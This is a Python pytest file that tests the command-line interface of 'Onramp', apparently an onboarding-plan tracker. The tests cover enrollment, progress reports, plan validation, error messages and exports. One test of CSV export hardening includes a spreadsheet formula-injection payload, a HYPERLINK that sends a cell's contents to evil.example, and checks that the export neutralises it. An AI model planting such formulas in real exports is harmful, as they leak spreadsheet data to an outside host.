"""The operator CLI end to end: plans, enrollment, progress, marking and export."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
import time_machine

from bot.cli.csvout import safe_cell
from tests.support import travel
from tests.support.cli import CONFIG, invoke
from tests.support.processes import ONRAMP, finish, run_onramp

ROOT = Path(__file__).resolve().parents[1]
SHIPPED = ROOT / "plans" / "junior-llm-engineer"
#: The day the commands run on (a test that needs another says so).
TODAY = datetime(2026, 11, 10, 15, 0, tzinfo=UTC)
ENROLL = (
    *("enroll", "UHIRE", "--plan", "junior-llm-engineer"),
    *("--start", "2026-11-02", "--manager", "UBOSS"),
)


@pytest.fixture(autouse=True)
def _tuesday_of_week_two() -> Iterator[None]:
    """Every command here runs on Tue 10 Nov 2026, day 9 of the plan ENROLL starts on 2 Nov."""
    with time_machine.travel(TODAY, tick=False):
        yield


def run(database_url: str, *args: str, config: bool = True) -> tuple[int, str, str]:
    """Run one `onramp` command in-process on ``database_url``; exit code, stdout and stderr."""
    return invoke(*args, env={"DATABASE_URL": database_url}, config=config)


@pytest.fixture
def enrolled_url(database_url: str) -> str:
    """A database on which ENROLL has enrolled UHIRE from 2 Nov with UBOSS; its URL."""
    code, _, err = run(database_url, *ENROLL)
    assert code == 0, err
    return database_url


@pytest.fixture
def sqlite_url(tmp_path: Path) -> str:
    """A SQLite file that does not exist yet, in the test's folder."""
    return f"sqlite:///{tmp_path / 'x.db'}"


def test_enroll_mark_progress(database_url: str) -> None:
    """enroll → mark done → progress shows the milestone done (on each database)."""
    code, out, _ = run(database_url, *ENROLL, "--mentor", "UMENTOR")
    assert code == 0, out
    assert "Enrolled UHIRE on junior-llm-engineer v1 from 2026-11-02" in out
    code, out, _ = run(
        database_url, "mark", "UHIRE", "d30-dev-environment", "done", "--note", "VPN ok"
    )
    assert (code, out) == (0, "UHIRE: d30-dev-environment is now done.\n")
    code, out, _ = run(database_url, "progress", "UHIRE", "--json")
    assert code == 0
    report = json.loads(out)
    assert report["hire"] == "UHIRE"
    assert report["manager"] == "UBOSS"
    assert report["mentors"] == ["UMENTOR"]
    assert report["status"] == "active"
    day30 = report["phases"][0]
    assert (day30["id"], day30["done"], day30["total"]) == ("day-30", 1, 6)
    done = [m for m in day30["milestones"] if m["status"] == "done"]
    assert done == [
        {
            "id": "d30-dev-environment",
            "title": "Set up the dev environment and system access",
            "status": "done",
            "note": "VPN ok",
        }
    ]
    assert set(report) == {
        "hire",
        "plan",
        "manager",
        "mentors",
        "status",
        "day",
        "start",
        "day_one",
        "current_phase",
        "phases",
    }


def test_second_enrollment_is_refused_with_exit_1(database_url: str) -> None:
    """Enrolling a hire who already has an active plan fails with a clear message and code 1."""
    args = ENROLL
    assert run(database_url, *args)[0] == 0
    code, _, err = run(database_url, *args)
    assert code == 1
    assert err.startswith("error: UHIRE is already enrolled in junior-llm-engineer")


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (
            (
                "enroll",
                "UH",
                "--plan",
                "junior-llm-engineer",
                "--start",
                "next monday",
                "--manager",
                "UB",
            ),
            2,
            "--start 'next monday' is not a date; use YYYY-MM-DD",
        ),
        (
            ("enroll", "UH", "--plan", "nope", "--start", "2026-11-02", "--manager", "UB"),
            1,
            "There is no plan 'nope'. Plans available: junior-llm-engineer.",
        ),
        (("mark", "UNOBODY", "d30-dev-environment", "done"), 1, "Onramp doesn't know UNOBODY"),
        (("progress", "UNOBODY"), 1, "Onramp doesn't know UNOBODY"),
        (("export", "--format", "xml"), 2, "--format 'xml' is not supported; use csv or json"),
    ],
)
def test_mistakes_get_a_message_not_a_traceback(
    database_url: str, args: tuple[str, ...], code: int, message: str
) -> None:
    """Bad input exits non-zero with one line saying what was wrong and how to fix it."""
    exit_code, _, err = run(database_url, *args)
    assert exit_code == code
    assert message in err
    assert "Traceback" not in err


def test_progress_text_shows_bars_and_current_phase(enrolled_url: str) -> None:
    """The text report shows each phase with a bar and the current phase's milestones."""
    run(enrolled_url, "mark", "UHIRE", "d30-product-surface", "blocked", "--note", "no access")
    code, out, _ = run(enrolled_url, "progress", "UHIRE")
    assert code == 0
    assert "day-30" in out
    assert "0/6" in out
    assert "⛔ Learn the AI product surface, use cases and failure modes" in out
    assert "Blocked: d30-product-surface" in out


@pytest.mark.parametrize(
    ("as_of", "day", "current"),
    [("2026-11-02", 1, "day-30"), ("2026-12-15", 44, "day-60"), ("2027-01-20", 80, "day-90")],
)
def test_progress_as_of_places_the_plan_on_that_day(
    enrolled_url: str, as_of: str, day: int, current: str
) -> None:
    """`progress --as-of DATE` shows the day number and current phase of that date, not today's."""
    code, out, _ = run(enrolled_url, "progress", "UHIRE", "--as-of", as_of, "--json")
    assert code == 0
    report = json.loads(out)
    assert (report["day"], report["current_phase"]) == (day, current)
    code, out, _ = run(enrolled_url, "progress", "UHIRE", "--as-of", as_of)
    assert f"day {day};" in out


def test_progress_as_of_refuses_what_is_not_a_date(enrolled_url: str) -> None:
    """`--as-of` that is not a date exits 2 with the format to use."""
    code, _, err = run(enrolled_url, "progress", "UHIRE", "--as-of", "yesterday")
    assert code == 2
    assert "--as-of 'yesterday' is not a date; use YYYY-MM-DD" in err


def test_export_csv_and_json(enrolled_url: str) -> None:
    """Export prints one row per milestone, as CSV or as JSON."""
    code, out, _ = run(enrolled_url, "export")
    assert code == 0
    lines = out.strip().splitlines()
    assert lines[0].startswith("enrollment,hire,hire_name,plan")
    assert len(lines) == 1 + 32
    code, out, _ = run(enrolled_url, "export", "--format", "json")
    assert len(json.loads(out)) == 32


def test_plans_list_show_and_schema(sqlite_url: str) -> None:
    """plans list/show/schema describe the shipped plan; show --json keeps its documented shape."""
    code, out, _ = run(sqlite_url, "plans", "list")
    assert code == 0
    assert out.startswith("junior-llm-engineer")
    code, out, _ = run(sqlite_url, "plans", "show", "junior-llm-engineer", "--json")
    plan = json.loads(out)
    assert set(plan) == {"id", "title", "version", "phases", "kpis", "growth"}
    assert [p["id"] for p in plan["phases"]] == [
        "day-30",
        "day-60",
        "day-90",
        "month-6",
        "month-12",
    ]
    assert [p["due"] for p in plan["phases"]] == ["30d", "60d", "90d", "6mo", "12mo"]
    assert set(plan["phases"][0]) == {"id", "due", "title", "source", "milestones"}
    assert set(plan["phases"][0]["milestones"][0]) == {"id", "title", "source"}
    assert len(plan["kpis"]) == 25
    assert set(plan["kpis"][0]) == {"name", "measures", "target", "frequency", "source"}
    code, out, _ = run(sqlite_url, "plans", "show", "junior-llm-engineer")
    assert "day-30 — Onboarding and foundation (due 30 days after start)" in out
    code, out, _ = run(sqlite_url, "plans", "schema", config=False)
    assert json.loads(out)["title"] == "Onramp plan.yaml"


def test_plans_check_passes_on_main(sqlite_url: str) -> None:
    """`onramp plans check` accepts the shipped plans."""
    code, out, _ = run(sqlite_url, "plans", "check")
    assert code == 0
    assert "ok" in out
    assert "32 milestones, 25 KPIs" in out


def _broken_copy(tmp_path: Path, old: str, new: str) -> Path:
    folder = tmp_path / "junior-llm-engineer"
    shutil.copytree(SHIPPED, folder)
    plan = folder / "plan.yaml"
    text = plan.read_text(encoding="utf-8")
    assert old in text
    plan.write_text(text.replace(old, new, 1), encoding="utf-8")
    return plan


def test_plans_check_refuses_a_duplicate_milestone_id(tmp_path: Path, sqlite_url: str) -> None:
    """A duplicate milestone id fails the check with exit 2 and `plan.yaml:LINE:` in the message."""
    plan = _broken_copy(tmp_path, "id: d60-own-component", "id: d30-product-surface")
    line = next(
        i
        for i, text in enumerate(plan.read_text(encoding="utf-8").splitlines(), 1)
        if "id: d30-product-surface" in text and i > 30
    )
    code, _, err = run(sqlite_url, "plans", "check", str(plan))
    assert code == 2
    assert f"plan.yaml:{line}: phases[1].milestones[0].id: duplicate milestone id" in err


def test_plans_check_refuses_a_dangling_source(tmp_path: Path, sqlite_url: str) -> None:
    """A source naming no blueprint section fails with the line and a suggestion."""
    plan = _broken_copy(tmp_path, "source: s6.60-day-goals", "source: s6.60-days")
    code, _, err = run(sqlite_url, "plans", "check", str(plan.parent))
    assert code == 2
    assert "plan.yaml:" in err
    assert "no blueprint section 's6.60-days' (did you mean 's6.60-day-goals'?)" in err


def test_plans_check_refuses_a_cadence_whose_after_plan_pulses_cannot_repeat(
    tmp_path: Path, sqlite_url: str
) -> None:
    """A plan's pulse_until in weeks under app.yaml's monthly pulse after the plan is refused."""
    plan = _broken_copy(tmp_path, "  pulse_until: 12mo", "  pulse_until: 52w")
    code, out, err = run(sqlite_url, "plans", "check", str(plan))
    assert code == 2
    assert "checkins: after_plan_pulse_every (1mo)" in err
    assert "pulse_until (52w)" in err
    assert "ok " not in out


def test_db_upgrade_reports_what_it_did(sqlite_url: str) -> None:
    """db upgrade migrates an empty database once and then says it is up to date."""
    code, out, _ = run(sqlite_url, "db", "upgrade")
    assert code == 0
    assert out.startswith("Database upgraded from empty to")
    code, out, _ = run(sqlite_url, "db", "upgrade")
    assert code == 0
    assert out.startswith("Database already at")


def test_unreachable_database_is_a_configuration_error(tmp_path: Path) -> None:
    """A database that can't be reached gives exit 2 and a hint, not a stack trace."""
    code, _, err = run("postgresql://nobody@127.0.0.1:1/none", "progress", "UHIRE")
    assert code == 2
    assert "cannot use the database" in err
    assert "DATABASE_URL" in err


def test_the_console_script_runs(sqlite_url: str) -> None:
    """The installed `onramp` entry point runs a command in a fresh process."""
    result = finish(
        [ONRAMP, "plans", "list", "--config", CONFIG],
        env={"PATH": str(Path(ONRAMP).parent), "DATABASE_URL": sqlite_url},
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("junior-llm-engineer")


def test_people_set_holiday_country(enrolled_url: str) -> None:
    """`people set --holiday-country` stores the code upper-cased, says so (text and --json),
    and `none` goes back to the workspace default."""
    code, out, _ = run(enrolled_url, "people", "set", "UHIRE", "--holiday-country", "de-by")
    assert (code, out) == (0, "UHIRE: check-ins now skip public holidays of DE-BY.\n")
    code, out, _ = run(
        enrolled_url, "people", "set", "UHIRE", "--holiday-country", "DE-BY", "--json"
    )
    assert code == 0
    assert json.loads(out) == {
        "user": "UHIRE",
        "holiday_country": "DE-BY",
        "previous": "DE-BY",
        "changed": False,
        "workspace_default": None,
    }
    code, out, _ = run(enrolled_url, "people", "set", "UHIRE", "--holiday-country", "none")
    assert (code, out) == (
        0,
        "UHIRE: check-ins now follow the workspace default: weekends only "
        "(checkins.holiday_country).\n",
    )


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (("people", "set", "UHIRE"), 2, "nothing to set; add --holiday-country CODE"),
        (
            ("people", "set", "UHIRE", "--holiday-country", "XX"),
            2,
            "Unknown holiday country 'XX': use an ISO 3166 code such as US, GB, DE or DE-BY",
        ),
        (
            ("people", "set", "UHIRE", "--holiday-country", "US-XYZ"),
            2,
            "US has no subdivision 'XYZ'",
        ),
        (
            ("people", "set", "UNOBODY", "--holiday-country", "US"),
            1,
            "Onramp doesn't know UNOBODY yet",
        ),
    ],
)
def test_people_set_mistakes(
    enrolled_url: str, args: tuple[str, ...], code: int, message: str
) -> None:
    """A missing setting or an unknown code exits 2, an unknown person 1, each with the fix."""
    exit_code, _, err = run(enrolled_url, *args)
    assert (exit_code, "Traceback" in err) == (code, False)
    assert message in err


def run_main(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """Run the installed `onramp` console script (the real entry point) in a fresh process,
    with only its own folder on PATH."""
    return run_onramp(*args, env={"PATH": str(Path(ONRAMP).parent), **(env or {})})


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("garbage", "the database URL is not a URL; write it like sqlite:///onramp.db"),
        ("mysql://x:s3cret@localhost/db", "names 'mysql', which Onramp does not support"),
        ("postgresql+psycopg2://u@h/db", "names 'postgresql+psycopg2'"),
    ],
)
def test_a_database_url_onramp_cannot_use_is_a_configuration_error(url: str, message: str) -> None:
    """A malformed or unsupported DATABASE_URL exits 2 with the forms to use, and no password."""
    result = run_main("progress", "UX", "--config", CONFIG, env={"DATABASE_URL": url})
    assert result.returncode == 2, result.stderr
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert "s3cret" not in result.stderr


@pytest.mark.parametrize("args", [("progress", "UX"), ("tick", "--dry-run")])
def test_a_corrupt_sqlite_file_is_named_not_traced(tmp_path: Path, args: tuple[str, ...]) -> None:
    """A file that is not an SQLite database gives exit 2 and what to do (restore or repoint)."""
    corrupt = tmp_path / "c.db"
    corrupt.write_bytes(bytes(range(256)) * 20)
    result = run_main(*args, "--config", CONFIG, env={"DATABASE_URL": f"sqlite:///{corrupt}"})
    assert result.returncode == 2
    assert "is not a readable SQLite database" in result.stderr
    assert "restore it from a backup" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_read_only_database_reads_and_refuses_writes_naming_permissions(tmp_path: Path) -> None:
    """On a database this user may only read, `progress` works and `mark` exits 2 saying the
    file is read-only (not "is the server running?")."""
    path = tmp_path / "ro.db"
    assert run(f"sqlite:///{path}", *ENROLL)[0] == 0
    read_only = f"sqlite:///file:{path}?mode=ro&uri=true"
    assert run(read_only, "progress", "UHIRE")[0] == 0
    code, _, err = run(read_only, "mark", "UHIRE", "d30-dev-environment", "done")
    assert code == 2
    assert "the database is read-only for this user" in err
    assert "server is running" not in err


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--start", "9999-12-31"), "The start date 9999-12-31 is more than a year from today"),
        (("--start", "1900-01-01"), "The start date 1900-01-01 is more than five years before"),
        (("--start", "2027-11-12"), "more than a year from today (2026-11-10)"),
    ],
)
def test_start_dates_far_from_today_are_refused(
    database_url: str, args: tuple[str, ...], message: str
) -> None:
    """A start date beyond a year ahead or five years back exits 2 with the window, no trace."""
    base = ("enroll", "UX", "--plan", "junior-llm-engineer", "--manager", "UM")
    code, _, err = run(database_url, *base, *args)
    assert (code, "Traceback" in err) == (2, False)
    assert message in err


def test_an_operator_may_backfill_a_plan_begun_years_ago(database_url: str) -> None:
    """`onramp enroll` accepts a start four years back (the operator's backfill window)."""
    base = ("enroll", "UX", "--plan", "junior-llm-engineer", "--manager", "UM")
    code, out, err = run(database_url, *base, "--start", "2022-11-14")
    assert code == 0, err
    assert "from 2022-11-14" in out


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("tick", "--now", "9999-12-31T23:59:59Z", "--dry-run"), "--now 9999-12-31"),
        (("tick", "--now", "0001-01-01T00:00:00Z", "--dry-run"), "--now 0001-01-01"),
        (("progress", "UHIRE", "--as-of", "9999-01-01"), "--as-of 9999-01-01"),
    ],
)
def test_instants_outside_the_years_onramp_schedules_in_are_refused(
    enrolled_url: str, args: tuple[str, ...], message: str
) -> None:
    """--now and --as-of far outside 2000–2199 exit 2 naming the range, instead of overflowing."""
    code, _, err = run(enrolled_url, *args)
    assert (code, "Traceback" in err) == (2, False)
    assert message in err
    assert "outside the years Onramp schedules in (2000–2199)" in err


def test_the_manager_cannot_also_be_the_mentor(database_url: str) -> None:
    """`--manager M --mentor M` is refused (exit 2), and nothing is enrolled."""
    code, _, err = run(database_url, *ENROLL, "--mentor", "UBOSS")
    assert code == 2
    assert "UBOSS is the manager of record, so they can't also be the mentor" in err
    assert run(database_url, "progress", "UHIRE")[0] == 1


def test_a_mentor_named_twice_is_one_mentor(database_url: str) -> None:
    """`--mentor M --mentor M` enrolls M once."""
    run(database_url, *ENROLL, "--mentor", "UM1", "--mentor", "UM1")
    out = run(database_url, "progress", "UHIRE", "--json")[1]
    assert json.loads(out)["mentors"] == ["UM1"]


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1 for the VPN",
        "-2+3",
        "@SUM(A1:A2)",
    ],
)
def test_export_csv_neutralises_cells_a_spreadsheet_would_run(enrolled_url: str, note: str) -> None:
    """A note starting with = + - @ tab or CR is exported to CSV with a leading apostrophe; the
    JSON export keeps it exact."""
    run(enrolled_url, "mark", "UHIRE", "d30-dev-environment", "done", "--note", note)
    code, out, _ = run(enrolled_url, "export")
    assert code == 0
    rows = [r for r in csv.DictReader(io.StringIO(out)) if r["milestone"] == "d30-dev-environment"]
    assert rows[0]["note"] == "'" + note.strip()
    code, out, _ = run(enrolled_url, "export", "--format", "json")
    exported = [r for r in json.loads(out) if r["milestone"] == "d30-dev-environment"]
    assert exported[0]["note"] == note.strip()


@pytest.mark.parametrize(
    ("value", "written"),
    [("\tTAB", "'\tTAB"), ("\rCR", "'\rCR"), ("plain", "plain"), (-3, -3), ("", "")],
)
def test_the_csv_writer_makes_formula_starts_inert_and_leaves_the_rest(
    value: object, written: object
) -> None:
    """safe_cell prefixes text starting with a tab or CR too; numbers and plain text pass."""
    assert safe_cell(value) == written


def test_lifecycle_commands_pause_resume_complete(enrolled_url: str) -> None:
    """`onramp pause`, `resume` and `complete` change the plan's status and say so; a pause of
    a paused plan exits 1 with the reason."""
    assert run(enrolled_url, "pause", "UHIRE")[1] == (
        "UHIRE: plan paused; check-ins stop until `onramp resume UHIRE`.\n"
    )
    code, _, err = run(enrolled_url, "pause", "UHIRE")
    assert (code, "only an active plan can be paused" in err) == (1, True)
    assert run(enrolled_url, "resume", "UHIRE")[0] == 0
    code, out, _ = run(enrolled_url, "complete", "UHIRE", "--json")
    assert (code, json.loads(out)["status"]) == (0, "completed")


def test_withdraw_asks_first_and_no_changes_nothing(enrolled_url: str) -> None:
    """`onramp withdraw` asks for confirmation: "n" leaves the plan active (exit 1), "y" and
    --yes withdraw it."""
    code, _, err = invoke("withdraw", "UHIRE", env={"DATABASE_URL": enrolled_url}, input="n\n")
    assert code == 1
    assert "nothing changed" in err
    assert json.loads(run(enrolled_url, "progress", "UHIRE", "--json")[1])["status"] == "active"
    code, out, _ = run(enrolled_url, "withdraw", "UHIRE", "--yes")
    assert (code, out) == (
        0,
        "UHIRE: withdrawn from the plan; it stays on record (enroll them again anytime).\n",
    )


def test_an_unexpected_failure_is_one_sentence_with_exit_3(tmp_path: Path) -> None:
    """A failure nobody anticipated (here: the plans folder is a file) ends in one sentence,
    exit 3, and how to get the details, with no traceback unless ONRAMP_DEBUG is set."""
    config = tmp_path / "app.yaml"
    config.write_text("plans_dir: plans\n", encoding="utf-8")
    plans = tmp_path / "plans"
    plans.mkdir()
    (plans / "broken").mkdir()
    (plans / "broken" / "plan.yaml").mkdir()  # a folder where a file is read
    result = run_main("plans", "list", "--config", str(config))
    assert result.returncode == 3, result.stderr
    assert "Onramp failed unexpectedly (IsADirectoryError" in result.stderr
    assert "ONRAMP_DEBUG=1" in result.stderr
    assert "Traceback" not in result.stderr
    debug = run_main("plans", "list", "--config", str(config), env={"ONRAMP_DEBUG": "1"})
    assert "Traceback" in debug.stderr


def test_output_cut_short_by_the_reader_is_not_an_error(enrolled_url: str) -> None:
    """`onramp export | head -1`: the closed pipe ends the command quietly with exit 0."""
    command, env = travel.child_command(
        [ONRAMP, "export", "--config", CONFIG],
        {"PATH": "/usr/bin:/bin", "DATABASE_URL": enrolled_url},
    )
    pipeline = subprocess.run(  # noqa: S602 - a fixed pipeline of our own arguments
        " ".join(f"'{part}'" for part in command) + " | head -c 10 >/dev/null; "
        'echo "${PIPESTATUS[0]}"',
        shell=True,
        executable="/bin/bash",
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        cwd=ROOT,
        env=env,
    )
    assert pipeline.stdout.strip() == "0", pipeline.stderr
    assert "Traceback" not in pipeline.stderr
    assert "unexpectedly" not in pipeline.stderr


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (("mark", "UHIRE", "d30-product-surfac", "done"), 1),
        (("mark", "UNOBODY", "d30-dev-environment", "done"), 1),
        (("enroll", "UX", "--plan", "nope", "--start", "2026-11-09", "--manager", "UB"), 1),
        (ENROLL, 1),
        (("mark", "UHIRE", "d30-dev-environment", "finished"), 2),
        (
            ("enroll", "UX", "--plan", "junior-llm-engineer", "--start", "9/11", "--manager", "UB"),
            2,
        ),
        (("progress", "UHIRE", "--as-of", "1999-12-31"), 2),
        (("export", "--format", "xml"), 2),
    ],
)
def test_the_readme_exit_code_table_is_true(
    enrolled_url: str, args: tuple[str, ...], code: int
) -> None:
    """Each example of the README's exit-code table exits with the code the table gives it."""
    exit_code, _, err = run(enrolled_url, *args)
    assert exit_code == code, err
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "| 1 | well-formed, but the answer is no" in readme
    assert "| 2 | fix the command, a file or a setting" in readme


def test_a_sqlite_file_in_a_missing_folder_names_the_folder(tmp_path: Path) -> None:
    """A SQLite URL whose folder doesn't exist exits 2 saying to check the folder."""
    url = f"sqlite:///{tmp_path / 'no' / 'such' / 'dir' / 'x.db'}"
    code, _, err = run(url, "progress", "UX")
    assert code == 2
    assert "cannot open the SQLite file" in err
    assert "check that its folder exists" in err
